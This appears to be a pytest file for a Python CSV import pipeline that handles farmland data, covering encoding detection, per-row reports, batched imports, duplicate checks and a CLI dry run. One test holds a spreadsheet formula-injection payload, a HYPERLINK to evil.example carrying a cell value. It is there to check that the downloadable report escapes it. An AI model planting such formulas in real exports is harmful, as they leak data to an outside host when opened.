"""carto.io: the one import pipeline (read → check → write) and its per-row report, through the
farmland importer (streamed, COPY into staging, one merge) and the CSV readers."""

import io
from pathlib import Path

import pytest
from sqlalchemy import text
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from carto import farmland
from carto.cli import app
from carto.errors import Invalid
from carto.io import pipeline, readers

SOURCE = "pipeline test"


def _csv(body: str, delimiter: str = ",") -> str:
    return body.replace(",", delimiter)


def test_encodings_and_delimiters_are_detected() -> None:
    content = "nom;commune\nÉpicerie du Léz;Montpellier\n"
    for encoding in ("utf-8", "utf-8-sig", "cp1252"):
        table = readers.csv_table(io.BytesIO(content.encode(encoding)))
        assert table.header == ["nom", "commune"], encoding
        assert [r.values for r in table.rows] == [{"nom": "Épicerie du Léz",
                                                   "commune": "Montpellier"}], encoding
    tabbed = readers.csv_table(io.BytesIO(b"a\tb\n1\t2\n"))
    assert [r.values for r in tabbed.rows] == [{"a": "1", "b": "2"}]


def test_empty_rows_keep_the_line_numbers_and_short_rows_are_padded() -> None:
    table = readers.csv_table(io.BytesIO(b"a,b,c\n1,2,3\n,,\n\n4\n5,6,7,8\n"))
    rows = list(table.rows)
    assert [r.line for r in rows] == [2, 5, 6]
    assert rows[1].values == {"a": "4", "b": "", "c": ""}
    assert rows[2].values[readers.EXTRA] == ["8"]


def test_the_report_keeps_a_line_per_row_out_of_memory() -> None:
    report = pipeline.Report()
    for i in range(2, 30_002):
        report.add(i, pipeline.CREATED if i % 3 else pipeline.REJECTED, f"row {i}", "kind",
                   "valeur inconnue" if i % 3 == 0 else None)
    assert report.rows == 30_000 and report.counts[pipeline.REJECTED] == 10_000
    assert len(report.rejections) == pipeline.KEPT_REJECTIONS  # the rest is in the spool only
    lines = list(report.lines())
    assert len(lines) == 30_000 and lines[1] == pipeline.Line(3, "rejected", "row 3", "kind",
                                                              "valeur inconnue")
    assert report._spool._rolled  # past 1 MB the spool went to disk
    assert pipeline.report_csv(report).splitlines()[0] == "ligne,statut,libellé,colonne,raison," \
                                                          "feuille"


def test_the_downloadable_report_neutralises_formulas() -> None:
    report = pipeline.Report()
    report.add(2, pipeline.REJECTED, '=HYPERLINK("http://evil.example/?"&A1;"clic")', "kind",
               "valeur inconnue")
    row = pipeline.report_csv(report).splitlines()[1]
    assert row.startswith('2,rejected,"\'=HYPERLINK(')
    assert list(report.lines())[0].label.startswith("=")  # the spool keeps what was read


GOOD = f"""commune,crop_group,hectares,year,source
34108,vegetables,12.5,2023,{SOURCE}
34108,vines,800,2023,{SOURCE}
34301,orchards,"3,25",2023,{SOURCE}
"""


def test_farmland_reports_each_line_and_a_dry_run_writes_nothing(session: Session) -> None:
    dry = farmland.import_text(session, GOOD, dry_run=True)
    assert dry.lines is not None
    assert sorted((x.line, x.status) for x in dry.lines.lines()) == [
        (2, "created"), (3, "created"), (4, "created")]
    assert session.scalar(text("SELECT count(*) FROM farmland WHERE source = :s"),
                          {"s": SOURCE}) == 0
    farmland.import_text(session, GOOD)
    again = farmland.import_text(session, GOOD.replace("800", "801"))
    assert again.lines is not None
    assert sorted((x.line, x.status) for x in again.lines.lines()) == [
        (2, "unchanged"), (3, "updated"), (4, "unchanged")]
    assert session.scalar(text("SELECT hectares FROM farmland WHERE source = :s AND "
                               "crop_group = 'vines'"), {"s": SOURCE}) == 801


def test_farmland_in_windows_1252_with_tabs_across_batches(session: Session,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pipeline, "BATCH", 2)  # several COPY batches, then one merge
    rows = "".join(f"34108\t{g}\t1,5\t2022\trelevé {SOURCE}\n"
                   for g in ("cereals", "vines", "olives", "fodder", "fallow"))
    content = ("commune\tcrop_group\thectares\tyear\tsource\n" + rows).encode("cp1252")
    report = farmland.import_stream(session, io.BytesIO(content))
    assert (report.rows, report.inserted) == (5, 5)
    assert session.scalar(text("SELECT count(*) FROM farmland WHERE source = :s"),
                          {"s": f"relevé {SOURCE}"}) == 5


def test_a_duplicate_across_batches_is_found_and_nothing_is_merged(
        session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pipeline, "BATCH", 2)
    with pytest.raises(Invalid) as err:
        farmland.import_text(session, GOOD + f"34108,vegetables,9,2023,{SOURCE}\n")
    assert [(e.field, e.message) for e in err.value.errors] == [
        ("ligne 5, colonne crop_group",
         "doublon de la ligne 2 (même commune, groupe, année et source)")]
    assert session.scalar(text("SELECT count(*) FROM farmland WHERE source = :s"),
                          {"s": SOURCE}) == 0


def test_cli_dry_run_writes_nothing(migrated: str, demo_loaded: object, tmp_path: Path) -> None:
    from carto.db import transaction

    path = tmp_path / "farmland.csv"
    path.write_text(GOOD, encoding="utf-8")
    result = CliRunner().invoke(app, ["farmland", "import", str(path), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "3 ajoutées" in result.output and "rien n'a été écrit" in result.output
    with transaction(migrated) as s:
        assert s.scalar(text("SELECT count(*) FROM farmland WHERE source = :s"),
                        {"s": SOURCE}) == 0
